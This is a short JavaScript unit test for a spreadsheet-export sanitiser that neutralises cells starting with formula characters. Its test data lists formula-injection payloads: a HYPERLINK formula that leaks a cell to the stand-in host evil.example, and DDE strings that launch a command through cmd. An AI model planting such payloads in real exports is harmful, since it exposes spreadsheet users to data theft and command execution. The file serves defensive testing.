import { expect } from 'chai';
import { spreadsheetText } from '../../src/reports/spreadsheet-text.js';

describe('spreadsheetText', () => {
  it('when a cell starts with =, +, -, @, a tab or a carriage return, then a single quote makes it text', () => {
    for (const formula of ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']) {
      expect(spreadsheetText(formula), formula).to.equal(`'${formula}`);
    }
  });

  it('when a name only holds those characters further on, then it is written as it is', () => {
    for (const name of ['DUPONT-MARTIN Anne', "N'DIAYE Awa", 'MARTIN Jean-Luc', 'LÉA @home', '']) expect(spreadsheetText(name)).to.equal(name);
  });
});
